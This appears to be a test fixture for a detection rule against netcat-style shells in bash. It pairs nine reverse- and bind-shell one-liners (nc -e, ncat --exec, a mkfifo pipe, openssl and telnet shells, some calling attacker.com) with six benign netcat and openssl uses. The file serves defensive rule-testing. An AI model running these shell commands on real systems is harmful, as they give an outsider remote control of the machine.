# ruleid: bash.netcat-shell
nc -e /bin/sh 10.0.0.1 4444
# ruleid: bash.netcat-shell
busybox nc -e /bin/sh attacker.com 12345
# ruleid: bash.netcat-shell
nc -lvnp 4444 -e /bin/bash
# ruleid: bash.netcat-shell
ncat --exec /bin/bash --allow 10.0.0.2 -vnl 4444 --ssl
# ruleid: bash.netcat-shell
ncat 192.0.2.3 443 --sh-exec "bash -i"
# ruleid: bash.netcat-shell
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f
# ruleid: bash.netcat-shell
/bin/sh -i </path/to/temp-socket 2>&1 | openssl s_client -quiet -connect attacker.com:12345 >/path/to/temp-socket
# ruleid: bash.netcat-shell
telnet attacker.com 12345 </path/to/temp-socket | /bin/sh >/path/to/temp-socket
# ruleid: bash.netcat-shell
nc -l -p 9999 | bash
# ok: bash.netcat-shell
nc -zv example.com 443
# ok: bash.netcat-shell
while true ; do nc -l -p 1500 -c 'echo -e "HTTP/1.1 200 OK\n\n $(date)"'; done
# ok: bash.netcat-shell
tar czf - dir | nc -q 1 backup.host 9000
# ok: bash.netcat-shell
nc -l 9000 > received.tar.gz
# ok: bash.netcat-shell
openssl s_client -connect example.com:443 -servername example.com < /dev/null | openssl x509 -noout -dates
# ok: bash.netcat-shell
echo "stats" | nc localhost 11211
